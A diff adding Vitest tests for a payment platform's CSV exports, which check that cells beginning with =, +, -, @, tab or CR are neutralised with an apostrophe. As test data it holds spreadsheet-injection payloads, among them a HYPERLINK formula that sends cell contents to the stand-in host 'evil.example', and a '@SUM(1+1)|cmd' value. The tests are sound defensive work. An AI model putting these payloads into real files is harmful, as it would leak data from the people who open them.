@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createExportsService } from '../../src/modules/exports/index.js';
-import { csvField } from '../../src/modules/exports/csv.js';
+import { csvCell, csvField } from '../../src/modules/exports/csv.js';
 import { fakeChain, merchant, order } from '../helpers/factories.js';
 import { createHarness, type Harness } from '../helpers/harness.js';
 import { completeRefund, pay, setChainTime, settle } from './balance-fixtures.js';
@@ -128,5 +128,57 @@ describe('CSV exports', () => {
   it('writes fields per RFC 4180', () => {
     expect(['plain', 'a,b', 'say "hi"', 'x\ny', 'x\ry', '', null, 12, { a: 'b,"c"' }].map(csvField))
       .toEqual(['plain', '"a,b"', '"say ""hi"""', '"x\ny"', '"x\ry"', '', '', '12', '"{""a"":""b,\\""c\\""""}"']);
+  });
+});
+
+describe('CSV injection', () => {
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"click")';
+
+  it('prefixes with \' every text cell a spreadsheet would run as a formula, and leaves amounts, counts and times as they are', async () => {
+    const evil = await h.platform();
+    const m = await merchant(h, evil.secretKey, { external_id: HYPERLINK, name: HYPERLINK, reserve_bps: 1000 });
+    const o = await order(h, evil.secretKey, m.external_id, { amount: '12.34', order_no: '+1+1', metadata: { note: '@SUM(1+1)' } });
+    const o2 = await order(h, evil.secretKey, m.external_id, { amount: '5.00', order_no: '-2+3' });
+    await pay(h, o, at(3 * H));
+    await pay(h, o2, at(3 * H));
+    const refund = await h.request('POST', '/v1/refunds', { key: evil.secretKey, body: { order_id: o.id, amount: '1.50', reason: '@SUM(1+1)|cmd' } });
+    expect(refund.status).toBe(201);
+    await completeRefund(h, refund.body, 1_109_000n, at(4 * H));
+    const batch = await settle(h, evil.platformId, [{ orderId: o2.id, amount: 423_000n, released: true }], at(9 * 24 * H));
+
+    const orders = records((await csv('/v1/exports/orders.csv', evil.secretKey)).text);
+    const row = orders.find((r) => r.id === o.id)!;
+    expect(row).toMatchObject({ order_no: "'+1+1", merchant_id: `'${HYPERLINK}`, amount: '12.34', chain_id: '84532', service_fee: '0.1234', refunded_amount: '1.50', created_at: o.created_at });
+    expect(JSON.parse(row.metadata!)).toEqual({ note: '@SUM(1+1)' }); // a JSON object starts with {, never a formula
+    expect(orders.find((r) => r.id === o2.id)).toMatchObject({ order_no: "'-2+3", amount: '5.00' });
+    // The raw bytes too: the formula is inside a quoted field that starts with the quote mark.
+    expect((await csv('/v1/exports/orders.csv', evil.secretKey)).text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2,""click"")"`);
+
+    const refunds = records((await csv('/v1/exports/refunds.csv', evil.secretKey)).text);
+    expect(refunds).toEqual([expect.objectContaining({ id: refund.body.id, reason: "'@SUM(1+1)|cmd", amount: '1.50', reserve_portion: '1.109', funding_required: '0.391' })]);
+    const settlements = records((await csv('/v1/exports/settlements.csv', evil.secretKey)).text);
+    expect(settlements).toEqual([expect.objectContaining({ settlement_id: batch.id, order_no: "'-2+3", merchant_id: `'${HYPERLINK}`, amount: '0.423', released_amount: '0.423', chain_id: '84532' })]);
+    const ledger = records((await csv('/v1/exports/balance_transactions.csv', evil.secretKey)).text);
+    expect(ledger.length).toBeGreaterThan(0);
+    for (const t of ledger) {
+      expect(t.merchant_id).toBe(`'${HYPERLINK}`);
+      expect(t.amount).toMatch(/^\d+\.\d+$/);
+      expect(t.log_index).toMatch(/^\d+$/);
+      expect(t.block_time).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z$/);
+    }
+  });
+
+  it('escapes text cells starting with = + - @ tab or CR, never amounts, integers or times that look like them', () => {
+    expect(['=1+1', '+1', '-1+2', '@SUM(A1)', '\tx', '\r=1', 'a=b', ' =1', '', '-1.50'].map((v) => csvCell(v, 'text')))
+      .toEqual(["'=1+1", "'+1", "'-1+2", "'@SUM(A1)", "'\tx", '"\'\r=1"', 'a=b', ' =1', '', "'-1.50"]);
+    expect(csvCell('-1.50', 'amount')).toBe('-1.50');
+    expect(csvCell('12.34', 'amount')).toBe('12.34');
+    expect(csvCell(-3, 'integer')).toBe('-3');
+    expect(csvCell('2026-04-10T08:00:00.000Z', 'time')).toBe('2026-04-10T08:00:00.000Z');
+    expect(csvCell(null, 'amount')).toBe('');
+    // A value that is not what its column says is text: a column declared numeric by mistake cannot carry a formula.
+    expect(['=1+1', '-1+2', '+1', '@1'].map((v) => csvCell(v, 'amount'))).toEqual(["'=1+1", "'-1+2", "'+1", "'@1"]);
+    expect(csvCell('-1 ', 'integer')).toBe("'-1 ");
+    expect(csvCell({ a: '=1' }, 'text')).toBe('"{""a"":""=1""}"');
   });
 });
